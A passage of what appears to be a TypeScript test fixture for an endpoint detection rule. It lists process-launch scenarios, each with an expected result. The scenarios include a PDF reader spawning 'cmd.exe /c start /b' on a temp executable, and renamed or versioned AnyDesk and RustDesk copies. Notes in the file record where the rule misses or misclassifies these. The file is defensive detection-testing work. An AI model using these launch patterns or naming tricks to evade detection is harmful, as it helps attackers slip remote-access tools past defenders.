    note: 'Current Foxit is FoxitPDFReader.exe; the rule lists "foxitreader.exe": its cmd.exe child is missed.',
    steps: [{ child: 'cmd.exe', parent: 'FoxitPDFReader.exe', cmd: r`cmd.exe /c start /b C:\Users\{user}\AppData\Local\Temp\{hex}.exe`, parentCmd: r`"C:\Program Files (x86)\Foxit Software\Foxit PDF Reader\FoxitPDFReader.exe" "C:\Users\{user}\Downloads\{doc}.pdf"`, expect: null }],
  },
  {
    name: 'term-semantics-rustdesk-versioned-name', kind: 'term-semantics', intent: 'malicious',
    note: '"rustdesk-1.2.3-x86_64.exe" does not have the term "rustdesk.exe": reported by the user-writable branch instead.',
    steps: [{ child: unsigned('rustdesk-1.2.3-x86_64.exe', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\rustdesk-1.2.3-x86_64.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'term-semantics-anydesk-renamed-copy', kind: 'term-semantics', intent: 'malicious',
    note: 'The browser saved a second copy as "AnyDesk (1).exe": no "anydesk.exe" substring, reported as user-writable.',
    steps: [{ child: unsigned('AnyDesk (1).exe', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\AnyDesk (1).exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
  {
    name: 'term-semantics-concatenated-anydesk', kind: 'term-semantics', intent: 'malicious',
    note: '"SupportAnyDesk.exe" from Downloads: contains "anydesk.exe" but has no such term, so user-writable, not RAT.',
    steps: [{ child: unsigned('SupportAnyDesk.exe', DL), parent: 'explorer.exe', cmd: r`"C:\Users\{user}\Downloads\SupportAnyDesk.exe" `, parentCmd: explorerCmd, expect: 'userdir' }],
  },
];

export const SCENARIOS: Scenario[] = [...officeShellScenarios(), ...SCENARIOS_FIXED];

/** The longest scenario, in rows (a slot must fit it). */
export const MAX_STEPS = Math.max(...SCENARIOS.map((s) => s.steps.length));
